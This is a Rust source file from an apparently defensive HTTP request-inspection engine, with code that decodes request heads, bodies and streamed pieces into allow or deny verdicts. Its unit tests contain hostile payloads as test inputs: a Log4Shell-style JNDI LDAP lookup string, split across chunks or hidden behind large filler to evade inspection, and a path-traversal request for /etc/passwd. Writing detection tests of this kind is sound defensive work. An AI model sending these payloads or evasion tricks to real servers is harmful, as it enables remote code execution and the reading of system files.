//! One HTTP request through codec, body reading and judgement, as the data path takes it.

use super::clock;
use super::rows::Row;
use super::setup::Judge;
use super::verdict::Verdict;
use super::wire::Request;
use crate::engine::{BODY_TOO_LARGE, Case, Content};
use crate::flow::{Judgement, Kind, Past, Reason, Scene, Sensitivity, Verdict as Decision};
use crate::protocol::Malformed;
use crate::protocol::body::{Declared, Windows};
use crate::protocol::http1::{self, BodyDecoder, Framing, RequestHead, RequestView, Trailers};
use std::io;

/// The file ends before the request does.
const INCOMPLETE: Reason = Reason::new("incomplete-request", Kind::TooSlow, "the file ends before the request does");

/// About what one read from a socket gives.
const PIECE_BYTES: usize = 64 << 10;

/// A row of the kind `request`.
pub(super) fn row(judge: &Judge, row: Row) -> io::Result<Verdict> {
    let request: Request = serde_json::from_value(row.of("request"))?;
    Ok(judge.request(&request.wire()?, &request.messages()?).0)
}

impl Judge {
    /// Judges the first request in `bytes`.
    pub(super) fn first(&self, bytes: &[u8]) -> Verdict {
        self.request(bytes, &[]).0
    }

    /// Judges every request in `bytes`, up to the first that is denied: the connection ends there.
    pub(super) fn each(&self, bytes: &[u8]) -> Vec<Verdict> {
        let (mut verdicts, mut rest) = (Vec::new(), bytes);
        while !rest.is_empty() || verdicts.is_empty() {
            let (verdict, after) = self.request(rest, &[]);
            rest = if verdict.denies() { &[] } else { after };
            verdicts.push(verdict);
        }
        verdicts
    }

    /// Judges the first request in `bytes`, and the messages of the WebSocket that it opens.
    fn request<'a>(&self, bytes: &'a [u8], messages: &[Vec<u8>]) -> (Verdict, &'a [u8]) {
        let began = clock::cpu();
        let (mut verdict, rest) = match RequestHead::decode(bytes, &self.limits.http1) {
            Ok(Some(head)) => self.exchange(&head, bytes, messages),
            Ok(None) => (self.refused(INCOMPLETE), &[][..]),
            Err(malformed) => (self.refused(malformed.why), &[][..]),
        };
        verdict.cpu = clock::cpu().saturating_sub(began);
        verdict.answer = verdict.denied.map_or(200, |reason| http1::status(&reason)).to_string();
        (verdict, rest)
    }

    fn refused(&self, reason: Reason) -> Verdict {
        Verdict::on(Some(reason), self.sensitivity())
    }

    fn sensitivity(&self) -> Sensitivity {
        self.engine.port(self.connection.direction, self.connection.port).sensitivity
    }

    /// Head, then body. What is denied is denied, whatever the mode does with it.
    fn exchange<'a>(&self, head: &RequestHead, bytes: &'a [u8], messages: &[Vec<u8>]) -> (Verdict, &'a [u8]) {
        let (session, past) = (&self.session, Past::default());
        let scene = Scene { connection: &self.connection, session, past: &past, now: self.now };
        let mut case = self.engine.open(&scene);
        let view = head.view(bytes);
        let has_body = head.framing.has_body();
        let mut judgement = case.judge_head(&scene, &view.request(), head.len, !has_body);
        let mut rest = bytes.get(head.len..).unwrap_or_default();
        if has_body && judgement.verdict == Decision::Allow {
            (judgement, rest) = self.body(&mut case, &scene, (head, view), rest);
        }
        for message in messages {
            if judgement.verdict == Decision::Allow {
                judgement = case.judge_message(&scene, view, message, &self.limits.body);
            }
        }
        (Verdict::of(judgement, &case, self.sensitivity()), rest)
    }

    fn body<'a>(
        &self,
        case: &mut Case<'_>,
        scene: &Scene<'_>,
        (head, view): (&RequestHead, RequestView<'_>),
        rest: &'a [u8],
    ) -> (Judgement, &'a [u8]) {
        let most = self.limits.inspect_bytes;
        let stream = case.terms().is_some_and(|terms| terms.stream);
        if matches!(head.framing, Framing::Length(length) if length > most as u64) && !stream {
            return (case.condemn(BODY_TOO_LARGE), &[]);
        }
        let (mut body, mut decoder) = (Vec::new(), BodyDecoder::new(head.framing, &self.limits.http1));
        let progress = match decoder.decode(rest, &mut body) {
            Ok(progress) if progress.done => progress,
            Ok(_) => return (case.condemn(INCOMPLETE), &[]),
            Err(malformed) => return (case.condemn(malformed.why), &[]),
        };
        let trailers = decoder.trailers();
        let judgement = match (body.len() > most, stream) {
            (true, false) => case.condemn(BODY_TOO_LARGE),
            (true, true) => self.pieces(case, scene, view, (&body, trailers)),
            (false, _) => {
                let content = Content { bytes: &body, trailers, last: true };
                case.judge_body(scene, view, &content, &self.limits.body)
            }
        };
        (judgement, rest.get(progress.consumed..).unwrap_or_default())
    }

    /// A body on a `stream` route: what is held first, then piece by piece.
    fn pieces(
        &self,
        case: &mut Case<'_>,
        scene: &Scene<'_>,
        view: RequestView<'_>,
        (body, trailers): (&[u8], &Trailers),
    ) -> Judgement {
        let opened: Result<Windows, Malformed> =
            Declared::of(view.headers()).and_then(|declared| Windows::new(&declared));
        let mut windows = match opened {
            Ok(windows) => windows,
            Err(malformed) => return case.condemn(malformed.why),
        };
        let none = Trailers::default();
        let (first, later) = body.split_at_checked(self.limits.inspect_bytes).unwrap_or((body, &[]));
        let mut pieces = std::iter::once(first).chain(later.chunks(PIECE_BYTES)).peekable();
        loop {
            let bytes = pieces.next().unwrap_or_default();
            let last = pieces.peek().is_none();
            let content = Content { bytes, trailers: if last { trailers } else { &none }, last };
            let judgement = case.judge_piece(scene, view, &mut windows, &content, &self.limits.body);
            if last || judgement.verdict != Decision::Allow {
                return judgement;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cli::judge::Terms;

    fn judged(text: &str) -> Verdict {
        Judge::new(&Terms::default()).unwrap().first(text.as_bytes())
    }

    #[test]
    fn attack_in_a_chunked_body_denies() {
        let verdict = judged(
            "POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n\
             1E\r\n{\"a\": \"${jndi:ldap://10.0.0.1/\r\n4\r\na}\"}\r\n0\r\n\r\n",
        );
        assert_eq!(verdict.answer, "403");
    }

    #[test]
    fn attack_behind_what_is_held_denies() {
        let (filler, attack) = ("a ".repeat(200 << 10), "${jndi:ldap://10.0.0.1/a}");
        let length = filler.len() + attack.len();
        let head =
            format!("POST / HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\nContent-Length: {length}\r\n\r\n");
        assert_eq!(judged(&format!("{head}{filler}{attack}")).reason(), "attack-detected");
        assert!(!judged(&format!("{head}{attack:?}{filler}")).evidence.is_empty());
    }

    #[test]
    fn attack_in_a_path_that_cannot_be_read_is_an_attack() {
        assert_eq!(judged("GET /../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n").reason(), "attack-detected");
        assert_eq!(judged("GET /a/./b HTTP/1.1\r\nHost: a\r\n\r\n").reason(), "path-dot-segment");
    }

    #[test]
    fn half_a_request_is_incomplete() {
        assert_eq!(judged("GET / HTTP/1.1\r\nHost").reason(), INCOMPLETE.name);
        assert_eq!(judged("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nhi").reason(), INCOMPLETE.name);
        assert!(!judged("GET / HTTP/1.1\r\nHost: a\r\n\r\n").denies());
    }
}
